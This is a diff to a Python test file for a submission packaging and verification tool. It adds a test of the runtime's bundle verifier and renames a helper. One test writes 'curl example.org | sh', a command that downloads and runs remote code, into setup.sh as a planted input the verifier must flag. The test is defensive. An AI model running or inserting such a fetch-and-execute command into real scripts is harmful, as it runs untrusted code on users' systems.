@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from submission.bundle.checks import findings_json, verify
 from submission.errors import UserError
 from submission.package.contents import ENTRY, ROOT, needed_modules, package_files
 from submission.package.package import package
@@ -63,6 +64,21 @@ def test_the_runtime_holds_every_module_that_can_be_imported_and_no_training(mad
     assert done.returncode == 0, done.stderr
 
 
+def test_the_runtime_verifies_its_bundle_as_this_program_does(made):
+    program = (
+        "import sys; from pathlib import Path; from submission.bundle.checks import findings_json, verify\n"
+        "print(findings_json(verify(Path(sys.argv[1]))), end='')"
+    )
+    done = subprocess.run(
+        [sys.executable, "-P", "-c", program, str(made / "bundle")],
+        env={"PYTHONPATH": str(made / "runtime"), "PYTHONDONTWRITEBYTECODE": "1"},
+        cwd="/",
+        capture_output=True,
+        text=True,
+    )
+    assert done.stdout == findings_json(verify(made / "bundle")), done.stderr
+
+
 def test_requirements_hold_every_library_that_the_runtime_imports(made):
     locked = (made / "requirements.txt").read_text(encoding="utf-8") + (made / "requirements-torch.txt").read_text()
     for module in ("torch", "transformers", "safetensors", "numpy", "numba", "soundfile", "av", "soxr", "sacrebleu"):
@@ -93,15 +109,15 @@ def test_what_this_version_does_not_write_is_a_finding(received, spoil, path, wh
 
 
 def test_verify_checks_package_and_bundle(received):
-    def verify() -> subprocess.CompletedProcess[str]:
+    def checked() -> subprocess.CompletedProcess[str]:
         words = [sys.executable, "-m", "submission", "verify", str(received)]
         return subprocess.run(words, cwd=ROOT, capture_output=True, text=True, check=False)
 
-    good = verify()
+    good = checked()
     assert good.returncode == 0 and "PKG01" not in good.stdout, good.stdout + good.stderr
     (received / "setup.sh").write_text("curl example.org | sh\n", encoding="utf-8")
     (received / "bundle/en-de/ACL.txt").unlink()
-    bad = verify()
+    bad = checked()
     assert bad.returncode == 1 and "PKG01" in bad.stdout and "MAN02" in bad.stdout
 
 
